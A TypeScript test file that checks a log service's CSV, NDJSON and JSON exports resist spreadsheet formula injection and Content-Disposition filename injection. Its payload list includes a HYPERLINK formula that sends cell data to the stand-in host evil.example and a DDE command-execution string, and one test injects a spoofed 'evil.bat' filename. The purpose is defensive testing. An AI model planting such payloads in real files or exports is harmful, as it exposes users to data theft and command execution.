import { exports } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import { parseCsv } from "../../agent/samples/csv";
import { CSV_COLUMNS } from "../../src/services/export-format";
import { ingest, line, readText, tenant } from "./helpers";

async function exportOf(token: string, query: string) {
  const res = await exports.default.fetch(`http://fleetbeat.test/api/v1/logs/export?${query}`, {
    headers: { authorization: `Bearer ${token}` },
  });
  return { res, text: await readText(res) };
}

/** The parameters of a Content-Disposition value, read as RFC 6266 says: each once, nothing else between them. */
function disposition(header: string | null): { filename: string; real: string } {
  expect(header).not.toBeNull();
  expect(header!, "a header value is ASCII").toMatch(/^[\x20-\x7e]+$/);
  const re = /;\s*([!#$%&'*+.^_`|~0-9A-Za-z-]+)=(?:"((?:[^"\\]|\\.)*)"|([^;\s]*))/g;
  const params = [...header!.matchAll(re)].map((m) => [m[1]!.toLowerCase(), m[2] ?? m[3]!] as const);
  expect(header!.replace(re, "")).toBe("attachment");
  const names = params.map(([k]) => k);
  // filename* only when the ASCII name had to change, and then after the fallback (RFC 6266, appendix D).
  expect([["filename"], ["filename", "filename*"]]).toContainEqual(names);
  const get = (k: string) => params.find(([name]) => name === k)![1];
  expect(get("filename")).toMatch(/^[A-Za-z0-9._-]+$/);
  if (names.length === 1) return { filename: get("filename"), real: get("filename") };
  expect(get("filename*")).toMatch(/^UTF-8''[A-Za-z0-9!#$&+.^_`|~%-]+$/);
  return { filename: get("filename"), real: decodeURIComponent(get("filename*").slice("UTF-8''".length)) };
}

// What devices may write that a spreadsheet would run: OWASP's CSV Injection list.
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  "+1",
  "-1+1",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+2",
  "\r=1+2",
  "-5 degrees",
];

describe("the CSV export is safe to open in a spreadsheet", () => {
  it("starts every cell a spreadsheet would run with a quote, while NDJSON and JSON stay byte-exact", async () => {
    const t = await tenant();
    const sent = FORMULAS.map((text, i) =>
      line("WARN", text, {
        module: i % 2 ? text : "cam",
        logger: text,
        thread_id: text.slice(0, 64),
        context: { note: text },
      }),
    );
    const plain = line("INFO", "plain text; = + - @ inside are fine", { module: "a=b" });
    const res = await ingest(t.deviceKey, {
      session_id: "@run",
      logs: [...sent, plain, line("INFO", "negative thread", { thread_id: -7 })],
    });
    expect(res.json).toMatchObject({ accepted: FORMULAS.length + 2, rejected: [] });

    const csv = await exportOf(t.viewerKey, `device_id=${t.deviceId}&format=csv`);
    expect(csv.res.status).toBe(200);
    const [header, ...rows] = parseCsv(csv.text);
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(rows.length).toBe(FORMULAS.length + 2);
    const col = (row: string[], name: (typeof CSV_COLUMNS)[number]) => row[CSV_COLUMNS.indexOf(name)]!;
    for (const row of rows) {
      for (const cell of row) expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
      expect(col(row, "session_id")).toBe("'@run");
    }
    for (const text of FORMULAS) {
      const row = rows.find((r) => col(r, "message") === `'${text}`);
      expect(row, `a row for ${JSON.stringify(text)}`).toBeDefined();
      expect(col(row!, "logger")).toBe(`'${text}`);
      expect(col(row!, "thread_id")).toBe(`'${text.slice(0, 64)}`);
      // The context column is JSON, which starts with "{": it needs no quote and parses back.
      expect(JSON.parse(col(row!, "context"))).toEqual({ note: text });
    }
    const plainRow = rows.find((r) => col(r, "message") === plain.message)!;
    expect(col(plainRow, "module")).toBe("a=b");
    expect(col(rows.find((r) => col(r, "message") === "negative thread")!, "thread_id")).toBe("'-7");

    // NDJSON and JSON are for programs: every value exactly as it was sent.
    const nd = await exportOf(t.viewerKey, `device_id=${t.deviceId}&format=ndjson`);
    const ndLines = nd.text
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l));
    const js = JSON.parse((await exportOf(t.viewerKey, `device_id=${t.deviceId}&format=json`)).text);
    for (const lines of [ndLines, js]) {
      expect(lines.map((l: { message: string }) => l.message).sort()).toEqual(
        [...FORMULAS, plain.message, "negative thread"].sort(),
      );
      for (const l of lines) expect(l.session_id).toBe("@run");
    }
  });
});

describe("the export's file name", () => {
  it("keeps a device-chosen session id inside the filename parameters", async () => {
    const t = await tenant();
    const session = 'x";filename="evil.bat';
    expect((await ingest(t.deviceKey, { session_id: session, logs: [line("INFO", "hello")] })).json.accepted).toBe(1);
    const { res, text } = await exportOf(t.viewerKey, `session_id=${encodeURIComponent(session)}&format=csv`);
    expect(res.status).toBe(200);
    expect(parseCsv(text).length).toBe(2);
    const { filename, real } = disposition(res.headers.get("content-disposition"));
    expect(filename).toMatch(/^fleetbeat-logs-x__filename__evil\.bat-\d{8}\d{6}\.csv$/);
    expect(real).toMatch(/^fleetbeat-logs-x_;filename=_evil\.bat-\d{14}\.csv$/);
  });

  it("gives a session id in any script as UTF-8, with an ASCII fallback", async () => {
    const t = await tenant();
    const session = "テスト走行 #3 (é)";
    expect((await ingest(t.deviceKey, { session_id: session, logs: [line("INFO", "hello")] })).json.accepted).toBe(1);
    const { res, text } = await exportOf(t.viewerKey, `session_id=${encodeURIComponent(session)}&format=ndjson`);
    expect(res.status).toBe(200);
    expect(JSON.parse(text.trim()).session_id).toBe(session);
    const { filename, real } = disposition(res.headers.get("content-disposition"));
    expect(real).toMatch(/^fleetbeat-logs-テスト走行 #3 \(é\)-\d{14}\.ndjson$/);
    expect(filename).toMatch(/^fleetbeat-logs-[_3]+-\d{14}\.ndjson$/);
  });

  it("names the device or the project that was exported", async () => {
    const t = await tenant();
    await ingest(t.deviceKey, { logs: [line("INFO", "hello")] });
    const byDevice = disposition(
      (await exportOf(t.viewerKey, `device_id=${t.deviceId}&format=json`)).res.headers.get("content-disposition"),
    );
    expect(byDevice.filename).toMatch(new RegExp(`^fleetbeat-logs-${t.deviceId}-\\d{14}\\.json$`));
    expect(byDevice.real).toBe(byDevice.filename);
    // Plain ASCII: the header is what it always was.
    expect(
      (await exportOf(t.viewerKey, `device_id=${t.deviceId}&format=json`)).res.headers.get("content-disposition"),
    ).toMatch(/^attachment; filename="[^"]+\.json"$/);
    const byProject = disposition(
      (await exportOf(t.viewerKey, `project_id=${t.projectId}&format=csv`)).res.headers.get("content-disposition"),
    );
    expect(byProject.filename).toMatch(new RegExp(`^fleetbeat-logs-${t.projectId}-\\d{14}\\.csv$`));
  });
});
